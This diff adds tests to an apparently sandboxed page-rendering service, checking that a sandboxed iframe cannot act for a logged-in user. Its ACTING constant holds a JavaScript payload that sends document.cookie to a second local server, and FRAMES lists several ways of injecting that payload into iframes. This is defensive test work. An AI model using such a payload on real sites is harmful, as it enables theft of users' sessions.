@@ -253,3 +253,47 @@ async def test_headers_of_a_stranger_are_hidden_unless_exposed() -> None:
 async def test_nothing_private_is_reached_from_inside(url: str) -> None:
     async with showing() as here:
         assert "refused" in await shown(here, fetching(url))
+
+
+ACTING = """<script>document.cookie = 'mine=1'; fetch('/told'); fetch('//localhost:PORT/told?' + document.cookie);
+parent.fetch('/told?parent'); localStorage.mine = 1</script>"""
+
+FRAMES = {
+    "src": "<iframe sandbox='{allowed}' src={source}></iframe>",
+    "srcdoc": "<iframe title='a' sandbox='{allowed}' srcdoc={html}></iframe>",
+    "attribute": """<script>const f = document.createElement('iframe'); f.setAttribute('sandbox', '{allowed}');
+        f.setAttribute('srcdoc', {html}); document.body.append(f)</script>""",
+    "property": """<script>const f = document.createElement('iframe'); f.sandbox = '{allowed}';
+        f.srcdoc = {html}; document.body.append(f)</script>""",
+    "html": """<script>document.body.insertAdjacentHTML('beforeend',
+        `<iframe sandbox='{allowed}' srcdoc="` + {html}.replaceAll('"', '&quot;') + '"></iframe>')</script>""",
+    "blob": """<script>const f = document.createElement('iframe'); f.sandbox = '{allowed}';
+        f.src = URL.createObjectURL(new Blob([{html}], {{type: 'text/html'}})); document.body.append(f)</script>""",
+    "written": """<script>const f = document.createElement('iframe'); f.sandbox = '{allowed}'; document.body.append(f);
+        f.contentDocument.write({html})</script>""",
+}
+
+
+@pytest.mark.parametrize("allowed", ["", "allow-scripts", "allow-same-origin"])
+@pytest.mark.parametrize("how", FRAMES)
+async def test_a_frame_that_a_page_confines_cannot_act_for_a_login(how: str, allowed: str) -> None:
+    async with showing() as here:
+        await here.show(here.site.url("/cookies/set"), session="me")
+        inner = ACTING.replace("PORT", str(here.other.port)).replace('"', "'")
+        html = json.dumps(inner).replace("</", "<\\/") if "<script>" in FRAMES[how] else json.dumps(inner)
+        frame = FRAMES[how].format(allowed=allowed, html=html, source=here.at(inner))
+        page = await here.page(TRY % "show('page')" + frame, session="me")
+        again = await here.page(TRY % "show('kept ' + document.cookie + localStorage.mine)", session="me")
+
+        assert (here.site.hits["/told"], here.other.hits["/told"]) == (0, 0)
+        assert {"sandboxed_frame", "cut_short"}.intersection(page.evidence.escalate)
+        assert "page" in text_of(page)
+        assert text_of(again).endswith("kept undefined")
+
+
+async def test_without_a_login_a_frame_that_is_confined_may_run() -> None:
+    async with showing() as here:
+        page = await here.page(TRY % "show('page')" + '<iframe sandbox srcdoc="<p>frame</p>"></iframe>')
+
+        assert page.evidence.cut_short == ""
+        assert "frame" in text_of(page)
